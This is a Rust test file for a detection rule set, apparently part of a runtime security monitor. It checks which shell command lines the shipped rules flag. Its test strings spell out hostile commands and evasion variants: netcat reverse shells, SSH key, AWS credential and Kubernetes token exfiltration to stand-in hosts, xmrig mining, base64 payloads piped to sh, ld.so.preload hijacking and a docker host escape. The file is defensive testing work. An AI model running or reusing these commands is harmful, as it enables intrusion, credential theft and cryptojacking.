use super::tests::event;
use super::*;

/// The titles of the shipped rules that settle an event.
fn titles(event: inwarden_types::Event) -> Vec<String> {
    let rules = RuleSet::shipped().unwrap();
    let hits = rules.screen(&Case::of(event));
    hits.into_iter()
        .filter(ScreenHit::settles)
        .map(|hit| hit.title)
        .collect()
}

fn shell(line: &str) -> inwarden_types::Event {
    event(&["bash", "-c", line])
}

fn check_settles(event: inwarden_types::Event, expected: bool) {
    let line = event.process.image.argv.args.join(" ");
    let found = titles(event);
    assert_eq!(!found.is_empty(), expected, "{line}: {found:?}");
}

#[test]
fn words_that_are_appended_excuse_nothing() {
    let key = "cat ~/.ssh/id_rsa | nc h 1";
    let token = "curl -d @/run/secrets/kubernetes.io/serviceaccount/token http://h/";
    let history = "unset HISTFILE; rm ~/.bash_history";
    for line in [
        "xmrig -o stratum+tcp://p:1; less /x",
        "xmrig -o stratum+tcp://p:1 # grep \"stratum",
        "echo x; xmrig -o stratum+tcp://p:1",
        "ls\nxmrig -o stratum+tcp://p:1",
        "grep x\nsudo xmrig -o stratum+tcp://p:1",
        "grep x y & xmrig -o stratum+tcp://p:1",
        "grep $(xmrig -o stratum+tcp://p:1) x",
        "grep \"`xmrig -o stratum+tcp://p:1`\" x",
        "grep -q x <(xmrig -o stratum+tcp://p:1)",
        "grep '\"' y; xmrig -o stratum+tcp://p:1; grep '\"' y",
        "grep \\' y; xmrig -o stratum+tcp://p:1; grep \\' y",
        "echo Y2F0 | base64 -d | sh # grep \"base64",
        "echo Y2F0 | base64 -d | sh; grep \"base64\" x",
        &format!("{key} # grep \".ssh"),
        &format!("{key}; grep \".ssh\" x"),
        &format!("{token} # grep \"serviceaccount"),
        &format!("{token} # auth/kubernetes"),
        &format!("{token} https://sts.amazonaws.com/"),
        &format!("{token}; curl https://v/v1/auth/kubernetes/login"),
        &format!("{history} # sysprep"),
        &format!("{history}; cat /etc/machine-id"),
        ": > /etc/ld.so.preload; echo /tmp/x.so >> /etc/ld.so.preload",
        "docker run -v /:/mnt alpine chroot /mnt sh; echo -v /:/h:ro agent",
        "nc -e /bin/sh h 1; git commit -m x",
        "git -c alias.x='!nc -e /bin/sh h 1' x; nc -e /bin/sh h 1",
    ] {
        check_settles(shell(line), true);
    }
    // The names of programs and shells are free to choose.
    let mut named = event(&["less", "-o", "stratum+tcp://p:1"]);
    named.process.image.exe = "/tmp/less".into();
    check_settles(named, true);
    let mut quoted = event(&["sh", "-c", "grep '", "-o", "stratum+tcp://p:1", "'"]);
    quoted.process.image.exe = "/opt/worker".into();
    check_settles(quoted, true);
    let tied = "nc -e /bin/sh h 1";
    let mut argv0 = event(&["sh -c grep '", "-c", tied, "'"]);
    argv0.process.image.exe = "/usr/bin/bash".into();
    check_settles(argv0, true);
    check_settles(event(&["nc", "-e", "/bin/sh", "h", "1"]), true);
}

#[test]
fn searching_for_an_attack_is_none() {
    for line in [
        "grep -rn '; nc -e /bin/sh' rules/",
        "grep -rn \"; nc -e /bin/sh\" rules/ | head -n 5",
        "cd rules && grep -rnE '\\| (ba)?sh|; nc -e /bin/sh h' . 2>/dev/null | wc -l",
        "git commit -m 'rules: find `; nc -e /bin/sh h 1`'",
        "git log --grep='| nc -e /bin/sh' --oneline",
        "grep -rn 'stratum+tcp://' /var/log; echo done",
        "journalctl -u app | grep 'stratum+tcp://'",
        "grep -rn 'base64 -d | sh' .",
        "cd x && grep -rn \"base64 -d | bash\" . | sort | uniq",
        "grep -rn 'cat /etc/shadow | nc h 1' docs",
        "grep -n 'cat ~/.ssh/id_rsa | nc h 1' notes.txt",
        "sudo iptables -A OUTPUT -m string --string 'stratum+tcp://p' -j DROP",
        ": > /etc/ld.so.preload",
        "curl -s -d \"jwt=$(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://vault.example:8200/v1/auth/kubernetes/login",
    ] {
        check_settles(shell(line), false);
    }
    check_settles(event(&["grep", "-rn", "; nc -e /bin/sh", "rules/"]), false);
    check_settles(
        event(&["git", "commit", "-m", "find ; nc -e /bin/sh"]),
        false,
    );
    check_settles(event(&["less", "stratum+tcp://p"]), false);
    check_settles(event(&["rg", "cat /etc/shadow | nc h 1"]), false);
}

#[test]
fn sealing_an_image_is_a_hint_and_settles_nothing() {
    let line = "unset HISTFILE; rm -f ~/.bash_history; sudo cloud-init clean";
    let rules = RuleSet::shipped().unwrap();
    let hits = rules.screen(&Case::of(shell(line)));
    assert_eq!(hits.iter().map(|hit| hit.level).collect::<Vec<_>>(), [2]);
    let mut built = shell("unset HISTFILE; rm ~/.bash_history");
    built.ancestors[0].image.exe = "/usr/bin/packer".into();
    check_settles(built.clone(), false);
    built.ancestors[0].image.exe = "/tmp/packer".into();
    check_settles(built, true);
}

#[test]
fn a_key_that_is_kept_in_a_variable_and_sent_settles() {
    check_settles(
        shell(
            "keys=$(cat ~/.aws/credentials); printf '%s' \"$keys\" | curl -s --data-binary @- http://h/",
        ),
        true,
    );
    check_settles(
        shell("k=\"$(base64 /root/.ssh/id_rsa 2>/dev/null)\"\necho $k | gzip | curl -d@- h"),
        true,
    );
    check_settles(
        shell("k=$(cat ~/.aws/credentials); echo \"$k\" | wc -c; curl -s https://h/ -o x"),
        false,
    );
}
